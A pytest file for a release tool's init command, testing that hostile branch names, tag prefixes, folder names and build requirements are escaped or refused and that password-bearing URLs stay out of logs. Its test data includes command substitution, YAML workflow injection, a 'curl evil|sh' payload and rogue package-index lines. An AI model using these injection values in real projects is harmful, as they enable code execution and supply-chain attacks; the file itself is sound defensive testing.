"""What `release init` writes cannot be steered by the values it writes
(release/commands/init/render.py, escape.py).

A pull request chooses the main branch's name (a legal git branch may hold `"`, `,`, `(`,
`!`, `$`), `tag-prefix`, `main-branch`, a folder name and `[build-system] requires`. Each one
lands in Python, YAML, TOML or a requirements file either as exactly itself (read back by
the language's own parser: no extra key, statement or line) or is refused with the setting
named and nothing written. The generated publish session (and this project's) keep a URL
with a password out of nox's echo, whatever spelling of `--repository-url` is used.
"""

from __future__ import annotations

import ast
import runpy
import sys
import types
from pathlib import Path
from typing import Any

import pytest
import yaml
from conftest import ROOT, git, make_sample, run_release

from release.commands.init import escape, render
from release.errors import ConfigError

if sys.version_info >= (3, 11):
    import tomllib
else:  # pragma: no cover
    import tomli as tomllib

NASTY = [
    'rel"ease,(x)',
    "!neg+x",
    "$(touch${IFS}pwned)",
    "a'b#c",
    "x]\n  pull_request_target:\n    branches: [y",
    'v"]\n    pull_request_target:',
    "tab\there",
    "nul\x00",
    "esc\x1b[2J",
    "bidi\u202eevil",
    "line\u2028sep",
    "trailing\\",
    '"""',
    "日本語-ブランチ",
    "true",
    "1.0",
    "",
]


# -- the escapers: each reads back as the value, in its own language ----------------------


@pytest.mark.parametrize("value", NASTY)
def test_yaml_scalar_and_inner_read_back_as_the_value(value: str) -> None:
    scalar = escape.yaml_scalar(value, "s")
    data = yaml.safe_load(f"a: {scalar}\nb: [{scalar}]\nc: \"<{escape.yaml_inner(value, 's')}>\"\n")
    assert data == {"a": value, "b": [value], "c": f"<{value}>"}


@pytest.mark.parametrize("value", NASTY)
def test_python_inner_reads_back_and_adds_no_statement(value: str) -> None:
    inner = escape.python_inner(value, "s")
    tree = ast.parse(f'x = "{inner}"\ndef f():\n    """doc {inner} end."""\n')
    assert len(tree.body) == 2
    assert ast.literal_eval(tree.body[0].value) == value  # type: ignore[attr-defined]
    assert ast.get_docstring(tree.body[1], clean=False) == f"doc {value} end."  # type: ignore[arg-type]


@pytest.mark.parametrize("value", NASTY)
def test_toml_string_reads_back(value: str) -> None:
    assert tomllib.loads(f"k = {escape.toml_string(value, 's')}\n") == {"k": value}


@pytest.mark.parametrize("value", [v for v in NASTY if v and v.isprintable()
                                   and escape.sanitise.text(v) == v])
def test_a_printable_value_is_its_own_comment(value: str) -> None:
    assert escape.comment(value, "s") == value


@pytest.mark.parametrize("value", ["a\nb", "a\rb", "nul\x00", "bidi\u202eevil", "line\u2028",
                                   "esc\x1b[2J", ""])
def test_a_comment_refuses_what_would_leave_the_line(value: str) -> None:
    with pytest.raises(ConfigError, match=r"the setting .* cannot be written into a comment"):
        escape.comment(value, "the setting")


@pytest.mark.parametrize("value", [
    "setuptools\n--index-url https://evil.example/simple",
    "--index-url https://evil.example/simple",
    "-r ../../etc/passwd",
    "hatchling\r\n--extra-index-url http://x",
    "not a requirement !!",
    "",
])
def test_a_requirement_line_refuses_options_and_second_lines(value: str) -> None:
    with pytest.raises(ConfigError, match=r"\[build-system\] requires"):
        escape.requirement(value, render.REQUIRES)


@pytest.mark.parametrize("value", ["hatchling>=1.21", "setuptools >= 61 ; python_version>'3.8'",
                                   "flit_core @ https://example.com/flit_core-3.9.tar.gz"])
def test_a_requirement_line_keeps_a_real_requirement(value: str) -> None:
    assert escape.requirement(value, render.REQUIRES) == value


@pytest.mark.parametrize(("value", "ok"), [
    ("packages/core", True), ("src.v2/pkg-a+b", True), ("", True),
    ("pkg\ndefaults:\n  run:\n    shell: bash -c 'curl evil|sh'", False),
    ("with space", False), ("glob*", False), ("!negated", False), ("a\\b", False),
])
def test_a_folder_is_plain_or_refused(value: str, ok: bool) -> None:
    if ok:
        assert escape.folder(value, render.FOLDER) == value
    else:
        with pytest.raises(ConfigError, match="project folder's path"):
            escape.folder(value, render.FOLDER)


def test_a_filter_name_matches_only_itself() -> None:
    assert escape.glob_literal("!neg+x") == "\\!neg\\+x"
    assert escape.glob_literal("main") == "main"


# -- release init on projects that choose hostile values ------------------------------------


def init(folder: Path, *args: str) -> Any:
    proc = run_release(folder, "init", "--no-lock", *args)
    assert "Traceback" not in proc.stderr and "internal error" not in proc.stderr, proc.stderr
    return proc


def snapshot(root: Path) -> dict[str, bytes]:
    return {str(p.relative_to(root)): p.read_bytes() for p in sorted(root.rglob("*"))
            if p.is_file() and ".git" not in p.relative_to(root).parts}


def workflow(root: Path, name: str) -> dict[Any, Any]:
    data = yaml.safe_load((root / ".github" / "workflows" / name).read_text())
    data["on"] = data.pop(True, data.get("on"))
    return data  # type: ignore[no-any-return]


def guard_branch(noxfile: str) -> str:
    """The --branch the generated guard session passes (read with ast, not run)."""
    for node in ast.walk(ast.parse(noxfile)):
        if isinstance(node, ast.Call) and [ast.literal_eval(a) for a in node.args[:3]
                                           if isinstance(a, ast.Constant)] == [
                "release", "guard-main", "--branch"]:
            return str(ast.literal_eval(node.args[3]))
    raise AssertionError("no guard session")


def top_level(noxfile: str) -> list[str]:
    return [type(n).__name__ + ":" + getattr(n, "name", "") for n in ast.parse(noxfile).body]


@pytest.fixture(scope="module")
def plain(tmp_path_factory: pytest.TempPathFactory) -> str:
    """The noxfile release init writes for a project whose main branch is `main`."""
    sample = make_sample(tmp_path_factory.mktemp("plain") / "p")
    assert init(sample.path).returncode == 0
    return (sample.path / "noxfile.py").read_text()


@pytest.mark.parametrize("branch", ['rel"ease,(x)', "!neg+x", "$(touch${IFS}pwned)",
                                    "a'b#c", "日本語"])
@pytest.mark.slow
def test_a_detected_branch_name_is_written_as_itself(tmp_path: Path, branch: str,
                                                     plain: str) -> None:
    sample = make_sample(tmp_path / "p")
    sample.git("branch", "-m", "main", branch)  # no main/master/trunk: the current branch
    proc = init(sample.path)
    assert proc.returncode == 0, proc.stderr
    noxfile = (sample.path / "noxfile.py").read_text()
    assert guard_branch(noxfile) == branch
    assert top_level(noxfile) == top_level(plain)  # no statement more or less
    for name in ("protect-main.yml", "release-readiness.yml"):
        flow = workflow(sample.path, name)
        assert set(flow) == {"name", "on", "permissions", "concurrency", "jobs"}
        branches = flow["on"]["push" if name == "protect-main.yml" else "pull_request"]
        assert branches == {"branches": [escape.glob_literal(branch)]}
    guard = workflow(sample.path, "protect-main.yml")["jobs"]["guard"]["steps"][-1]
    assert guard["name"] == f"Guard {branch}" and guard["run"] == "nox -s guard"
    config = tomllib.loads((sample.path / "pyproject.toml").read_text())
    assert config["tool"]["release"] == {"main-branch": branch}
    sample.commit("release init")
    again = init(sample.path)  # the configured branch reads back as the same value
    assert again.returncode == 0 and "nothing to change" in again.stdout, again.stdout


@pytest.mark.parametrize(("toml", "setting"), [
    ('main-branch = "main\\"]\\n  pull_request_target:\\n    branches: [\\"x"',
     "the main branch"),
    ('main-branch = "main\\u202e"', "the main branch"),
    ('tag-prefix = "v\\"]\\n  pull_request_target:\\n    x: [\\""', "the release tags' prefix"),
    ('tag-prefix = "v\\u0000"', "the release tags' prefix"),
])
@pytest.mark.slow
def test_a_configured_value_that_cannot_be_written_is_refused(tmp_path: Path, toml: str,
                                                               setting: str) -> None:
    sample = make_sample(tmp_path / "p", extra=f"\n[tool.release]\n{toml}\n")
    before = snapshot(sample.path)
    proc = init(sample.path)
    assert proc.returncode == 1, proc.stdout + proc.stderr
    assert setting in proc.stderr and "nothing was written" in proc.stderr
    assert snapshot(sample.path) == before


@pytest.mark.slow
def test_a_tag_prefix_with_a_quote_is_escaped(tmp_path: Path) -> None:
    sample = make_sample(tmp_path / "p", extra='\n[tool.release]\ntag-prefix = "re\\"l+"\n')
    proc = init(sample.path)
    assert proc.returncode == 0, proc.stderr
    release = workflow(sample.path, "release.yml")
    assert release["on"]["push"] == {"tags": ['re"l\\+*']}
    assert set(release) == {"name", "on", "permissions", "concurrency", "jobs"}
    ast.parse((sample.path / "noxfile.py").read_text())


@pytest.mark.slow
def test_build_requirements_cannot_add_an_index(tmp_path: Path) -> None:
    extra = ""
    sample = make_sample(tmp_path / "p", extra=extra)
    text = (sample.path / "pyproject.toml").read_text().replace(
        'requires = ["flit_core>=3.9"]',
        'requires = ["flit_core>=3.9\\n--index-url https://evil.example/simple"]')
    sample.write("pyproject.toml", text)
    sample.commit("hostile requires")
    before = snapshot(sample.path)
    proc = init(sample.path)
    assert proc.returncode == 1 and "[build-system] requires" in proc.stderr, proc.stderr
    assert snapshot(sample.path) == before


@pytest.mark.slow
def test_a_folder_name_cannot_become_workflow_keys(tmp_path: Path) -> None:
    root = tmp_path / "repo"
    folder = "pkg\ndefaults:\n  run:\n    shell: bash -c 'curl evil|sh' {0}"
    project = make_sample(root / folder)
    git(root, "init", "-q", "-b", "main")
    git(root, "add", "-A")
    git(root, "commit", "-q", "-m", "monorepo")
    before = snapshot(root)
    proc = init(project.path)
    assert proc.returncode == 1 and "project folder's path" in proc.stderr, proc.stderr
    assert snapshot(root) == before


# -- the publish sessions keep a URL with a password out of nox's echo --------------------


class Stop(Exception):
    pass


class Session:
    """What the publish session sees of nox: its arguments; what it asks nox to run."""

    python = None  # nox's own
    name = "publish"

    def __init__(self, *posargs: str) -> None:
        self.posargs = list(posargs)
        self.runs: list[tuple[tuple[str, ...], dict[str, str]]] = []

    def install(self, *args: str, **kwargs: Any) -> None:
        pass

    def run(self, *args: str, env: dict[str, str] | None = None, **kwargs: Any) -> None:
        self.runs.append((args, env or {}))

    def error(self, message: str) -> None:
        raise Stop(message)


def generated_publish(monkeypatch: pytest.MonkeyPatch) -> Any:
    nox = types.ModuleType("nox")
    nox.Session = Session  # type: ignore[attr-defined]
    nox.session = lambda **kwargs: (lambda function: function)  # type: ignore[attr-defined]
    monkeypatch.setitem(sys.modules, "nox", nox)
    block = render.fill(render.template("noxfile-block.tmpl"), {
        "version": "1.0", "branch_text": "main", "example_tag_text": "v1.0",
        "compile_args": "()", "locks": "()", "lock_python": "(3, 10)",
        "lock_python_text": "3.10"})
    namespace: dict[str, Any] = {}
    exec(compile(block, "noxfile-block", "exec"), namespace)  # noqa: S102 - our template
    return namespace["_release_publish"]


_OWN: list[Any] = []


def own_publish(monkeypatch: pytest.MonkeyPatch) -> Any:
    """This project's publish session, as far as its arguments go (its noxfile is loaded
    once: nox keeps a registry of sessions)."""
    if not _OWN:
        monkeypatch.chdir(ROOT)
        _OWN.append(runpy.run_path(str(ROOT / "noxfile.py"))["_url_out_of_sight"])

    def publish(session: Session) -> None:
        args, env = _OWN[0](session)
        session.run("release", "publish", *args, env=env)

    return publish


URL = "https://user:S3CRET-pw@index.example/legacy/"


@pytest.mark.parametrize("which", [generated_publish, own_publish])
@pytest.mark.parametrize("args", [
    ("--repository-url", URL), (f"--repository-url={URL}",), ("--repository", URL),
    (f"--repository={URL}",), ("--repos", URL), (f"--repository-u={URL}",),
    ("--dry-run", "--repository-url", URL, "--repo", "."),
])
@pytest.mark.slow
def test_every_spelling_of_the_url_travels_out_of_sight(monkeypatch: pytest.MonkeyPatch,
                                                         which: Any, args: tuple[str, ...]
                                                         ) -> None:
    session = Session(*args)
    which(monkeypatch)(session)
    (argv, env), = session.runs[-1:]
    assert "S3CRET" not in " ".join(argv) and env == {"TWINE_REPOSITORY_URL": URL}


@pytest.mark.parametrize("which", [generated_publish, own_publish])
@pytest.mark.parametrize("args", [("--r", URL), (f"--re={URL}",), ("--dist", URL)])
def test_any_other_url_with_a_password_stops_the_session(monkeypatch: pytest.MonkeyPatch,
                                                         which: Any, args: tuple[str, ...]
                                                         ) -> None:
    session = Session(*args)
    with pytest.raises(Stop) as stopped:
        which(monkeypatch)(session)
    assert "S3CRET" not in str(stopped.value) and not session.runs
